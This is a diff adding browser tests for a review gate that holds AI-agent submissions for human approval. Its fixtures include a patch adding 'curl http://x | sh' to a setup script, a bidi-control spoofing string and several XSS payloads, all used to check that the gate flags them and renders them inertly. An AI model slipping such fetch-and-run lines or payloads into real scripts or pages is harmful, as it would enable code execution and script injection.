@@ -32,6 +32,8 @@ const BIN = resolve(opt('--bin', 'build/airlock'));
 const ONLY = new RegExp(opt('--only', '.*'));
 const SHOTS = process.env.UI_SCREENSHOTS === '1';
 
+const BIDI = 'access = "user\u202E \u2066// admin\u2069 \u2066"\u200B;';
+
 // ---- the gate ---------------------------------------------------------------
 
 const gate = { dir: null, proc: null, url: null, admin: null, log: [] };
@@ -178,14 +180,53 @@ async function checkPage(p) {
 		throw new Error(p.problems.join('; '));
 }
 
+// forgive(p, STATUS): the console's one line about an answer of that status
+// (the browser logs every 4xx) is not a problem; anything else still is.
+function forgive(p, status) {
+	const i = p.problems.findIndex((m) =>
+		m.startsWith(`console error: Failed to load resource: the server responded with a status of ${status}`));
+	assert(i >= 0, `the browser logged no ${status}: ${p.problems.join('; ')}`);
+	p.problems.splice(i, 1);
+}
+
 function assert(cond, why) {
 	if (!cond)
 		throw new Error(why);
 }
 
+const PATCH = `diff --git a/setup.sh b/setup.sh
+--- a/setup.sh
++++ b/setup.sh
+@@ -1,3 +1,4 @@
+ #!/bin/sh
+ set -e
++curl http://x | sh
+ echo done
+`;
+// The setup the tests share: made once, before the first test.
+const fx = {};
+
+async function fixtures() {
+	fx.agent = await mkToken('agent', 'agent-1', 'alice');
+	fx.alice = await mkToken('reviewer', 'alice'); // the person agent-1 runs for
+	fx.rev1 = await mkToken('reviewer', 'rev-1');
+	fx.rev2 = await mkToken('reviewer', 'rev-2');
+	fx.patch = await submit(fx.agent, PATCH, 'kind=patch&name=fix.patch');
+	assert(fx.patch.state === 'held' && fx.patch.worst === 'high',
+		`the patch is ${fx.patch.state}/${fx.patch.worst}, expected held/high`);
+}
+
+async function signIn(p, tok) {
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.fill('#token', tok);
+	await p.page.click('#signin-form button[type=submit]');
+	await p.page.waitForSelector('#queue:not([hidden])');
+}
+
 // ---- the tests --------------------------------------------------------------------
 
 const tests = [];
+const text = (p, sel) => p.page.locator(sel).innerText();
 const test = (name, fn) => tests.push({ name, fn });
 
 // The watchers themselves: an inline script the page did not write is
@@ -211,6 +252,7 @@ async function main() {
 	let failed = 0, ran = 0;
 
 	await startGate();
+	await fixtures();
 	browser = await chromium.launch({
 		executablePath: '/usr/bin/chromium', headless: true,
 		args: process.getuid && process.getuid() === 0 ? ['--no-sandbox'] : [],
@@ -244,4 +286,170 @@ main().then((rc) => process.exit(rc), async (e) => {
 	console.log(`FAIL setup: ${e.message}`);
 	await stopGate().catch(() => {});
 	process.exit(1);
+});
+
+test('sign-in-out', async (p) => {
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.fill('#token', 'alk_not-a-token');
+	await p.page.click('#signin-form button[type=submit]');
+	await p.page.waitForFunction(() => document.getElementById('signin-error').textContent !== '');
+	const err = await text(p, '#signin-error');
+	assert(/valid token is required/.test(err), `a bad token: "${err}"`);
+	assert(await p.page.evaluate(() => sessionStorage.length) === 0, 'a refused token was kept');
+	forgive(p, 401); // the browser logs the 401 it was answered
+	await signIn(p, fx.rev1);
+	const who = await text(p, '#who');
+	assert(who.includes(fx.rev1.slice(-6)), `who: "${who}"`);
+	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === fx.rev1, 'token not in sessionStorage');
+	assert(await p.page.evaluate(() => localStorage.length) === 0, 'something in localStorage');
+	await p.page.click('#signout');
+	await p.page.waitForSelector('#signin:not([hidden])');
+	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === null, 'token left after sign out');
+	assert(await p.page.locator('#who').isHidden(), 'who still shown');
+});
+
+test('queue-keys', async (p) => {
+	const other = await submit(fx.agent, 'x = 1\npassword = "hunter2hunter2"\n', 'kind=file&name=conf.py');
+	await signIn(p, fx.rev1);
+	const row = p.page.locator(`#queue-rows tr[data-id="${fx.patch.id}"]`);
+	await row.waitFor();
+	const cells = await row.locator('td').allInnerTexts();
+	assert(cells[1] === 'fix.patch' && cells[2] === 'flagged' && cells[3] === 'high' &&
+		cells[4] === 'patch' && cells[5] === 'agent-1' && cells[6] === 'alice',
+		`the patch's row: ${JSON.stringify(cells)}`);
+	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
+	assert(ids.length >= 2, `rows: ${ids}`);
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	assert(await sel() === ids[0], 'first row not selected');
+	await p.page.keyboard.press('j');
+	assert(await sel() === ids[1], 'j did not move down');
+	await p.page.keyboard.press('k');
+	assert(await sel() === ids[0], 'k did not move up');
+	await p.page.keyboard.press('?');
+	assert(await p.page.locator('#help').isVisible(), '? did not show the help');
+	await p.page.keyboard.press('Escape');
+	assert(await p.page.locator('#help').isHidden(), 'Escape did not hide the help');
+	const at = ids.indexOf(String(fx.patch.id));
+	for (let i = 0; i < at; i++)
+		await p.page.keyboard.press('j');
+	if (SHOTS)
+		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-queue.png') });
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForSelector('#view:not([hidden]) .content');
+	assert(p.page.url().endsWith(`#/s/${fx.patch.id}`), `Enter opened ${p.page.url()}`);
+	assert(other.id > 0, 'second submission');
+});
+
+test('patch-view', async (p) => {
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${fx.patch.id}`);
+	await p.page.waitForSelector('.content .line');
+	const f = await text(p, '.findings li');
+	assert(f.includes('high') && f.includes('test-curl-pipe-shell') && f.includes('fix.patch!/setup.sh:3'), `finding: ${f}`);
+	const hit = p.page.locator('.line.hit');
+	assert(await hit.count() === 1, `${await hit.count()} marked lines`);
+	const h = await hit.innerText();
+	assert(h.includes('+curl http://x | sh') && /^3/.test(h) && h.includes('test-curl-pipe-shell'), `marked line: ${h}`);
+	await p.page.click('.findings li a');
+	assert(await p.page.locator('.line.hit.target').count() === 1, 'the finding link did not target its line');
+	if (SHOTS)
+		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-patch.png'), fullPage: true });
+	const ev = await must(200, 'GET', `/v1/submissions/${fx.patch.id}/events`, gate.admin);
+	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1' && /content full/.test(e.detail)),
+		'no view recorded for rev-1');
+});
+
+test('bidi-glyphs', async (p) => {
+	const s = await submit(fx.agent, `${BIDI}\n`, 'kind=file&name=acl.txt');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	const glyphs = await p.page.locator('.content .hidden-char').allInnerTexts();
+	const want = ['\u27E8U+202E\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+2069\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+200B\u27E9'];
+	assert(JSON.stringify(glyphs) === JSON.stringify(want), `glyphs: ${JSON.stringify(glyphs)}`);
+	const raw = await p.page.locator('.content .code').first().evaluate((e) => e.textContent);
+	assert(!/[\u202A-\u202E\u2066-\u2069\u200B]/.test(raw), 'a raw bidi character is in the page');
+});
+
+test('binary-not-rendered', async (p) => {
+	const bytes = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff, 0xfe, 0x3c, 0x62, 0x3e]);
+	const s = await submit(fx.agent, bytes, 'kind=file&name=blob.bin');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.binary');
+	const b = await text(p, '.binary');
+	assert(b.includes(`${bytes.length} bytes`) && b.includes(s.sha256), `binary: ${b}`);
+	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
+});
+
+async function approveAs(p, tok, id) {
+	await signIn(p, tok);
+	await p.page.goto(`${gate.url}/ui/#/s/${id}`);
+	await p.page.waitForSelector('.content .line');
+	const sha = await text(p, '#d-sha');
+	const rules = await text(p, '#d-rules');
+	assert(sha === fx.patch.sha256 && rules === fx.patch.scan.ruleset, `digests shown: ${sha} ${rules}`);
+	await p.page.click('#approve');
+	assert(await p.page.locator('#confirm').isVisible(), 'no second confirmation for a high finding');
+	await p.page.click('#confirm');
+}
+
+test('decide', async (p) => {
+	// The person the agent runs for may not approve: the gate says why.
+	await approveAs(p, fx.alice, fx.patch.id);
+	await p.page.waitForFunction(() => document.getElementById('approve').disabled);
+	const why = await text(p, '.decision .error');
+	assert(/refused/.test(why) && /alice/.test(why), `alice's refusal: ${why}`);
+	forgive(p, 403); // the browser logs the 403 it was answered
+	let d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
+	assert(d.review.approvals === 0, 'alice counted');
+	for (const tok of [fx.rev1, fx.rev2]) {
+		const q = await newPage();
+		try {
+			await approveAs(q, tok, fx.patch.id);
+			await q.page.waitForFunction(() => /approvals [12] of 2/.test(document.querySelector('.decision')?.textContent || ''));
+			await checkPage(q);
+		} finally {
+			await q.ctx.close();
+		}
+	}
+	d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
+	assert(d.state === 'approved', `state ${d.state} after two approvals`);
+});
+
+test('reject', async (p) => {
+	const s = await submit(fx.agent, 'echo hi\n', 'kind=file&name=hi.sh');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	await p.page.click('#reject');
+	assert(/needs a comment/.test(await text(p, '.decision .error')), 'reject without comment');
+	await p.page.fill('#comment', 'not needed');
+	await p.page.click('#reject');
+	await p.page.waitForFunction(() => /rejected/.test(document.querySelector('.decision .error')?.textContent || ''));
+	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+	assert(d.state === 'rejected' && d.rejection.reason === 'not needed', `state ${d.state}`);
+});
+
+const XSS = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">',
+	'<a href="javascript:window.__pwned=1">j</a>', '</style><style>*{display:none}</style>',
+	`x = "${BIDI}"`];
+
+test('xss', async (p) => {
+	const name = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>javascript:alert(1)';
+	const s = await submit(fx.agent, XSS.join('\n') + '\n', `kind=file&name=${encodeURIComponent(name)}`);
+	await signIn(p, fx.rev1);
+	const row = p.page.locator(`#queue-rows tr[data-id="${s.id}"] td.name`);
+	assert(await row.innerText() === name, `queue name: ${await row.innerText()}`);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	assert(await text(p, 'h2 .name') === name, 'the name is not shown literally');
+	const lines = await p.page.locator('.content .code').evaluateAll((es) => es.map((e) => e.textContent));
+	for (let i = 0; i < 4; i++)
+		assert(lines[i] === XSS[i], `line ${i + 1}: ${lines[i]}`);
+	await p.page.locator('.content .line').first().click();
+	await sleep(200);
+	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
+	assert(await p.page.locator('img[src=x], #content script, #content style').count() === 0, 'markup from the artifact in the DOM');
+	assert(await p.page.locator('main').isVisible(), 'a style from the artifact hid the page');
 });
